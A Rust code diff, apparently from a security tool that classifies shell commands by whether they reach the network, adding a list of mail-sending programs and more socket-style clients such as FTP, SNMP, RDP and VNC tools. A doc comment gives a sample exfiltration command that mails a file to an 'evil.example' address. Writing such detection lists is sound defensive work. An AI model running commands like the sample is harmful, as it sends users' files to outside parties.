@@ -50,6 +50,36 @@ pub(super) fn is_url_fetcher(program: &str) -> bool {
     )
 }
 
+/// Programs that send mail: their recipients are destinations
+/// (`mail -s x a@evil.example < file`), like a tool call's `to`.
+pub(super) fn is_mail_sender(program: &str) -> bool {
+    matches!(
+        program,
+        "mail"
+            | "mailx"
+            | "bsd-mailx"
+            | "s-nail"
+            | "nail"
+            | "mutt"
+            | "neomutt"
+            | "sendmail"
+            | "ssmtp"
+            | "msmtp"
+            | "esmtp"
+            | "exim"
+            | "exim4"
+            | "dma"
+            | "mailsend"
+            | "mailsend-go"
+            | "sendemail"
+            | "mpack"
+            | "mhmail"
+            | "biabam"
+            | "sendxmpp"
+            | "swaks"
+    )
+}
+
 /// Programs whose only job is moving bytes over a network.
 pub(super) const SOCKET_TOOLS: &[&str] = &[
     "nc",
@@ -131,6 +161,20 @@ pub(super) const SOCKET_TOOLS: &[&str] = &[
     "ztcp",
     "nping",
     "zmap",
+    // Clients of other protocols: connecting is what they are run for.
+    "ncftp",
+    "ncftpget",
+    "ncftpput",
+    "ssh-keyscan",
+    "snmpset",
+    "snmpbulkwalk",
+    "snmptrap",
+    "irssi",
+    "weechat",
+    "rdesktop",
+    "xfreerdp",
+    "vncviewer",
+    "remmina",
 ];
 
 /// Programs that only print or test their arguments: a shell path in them
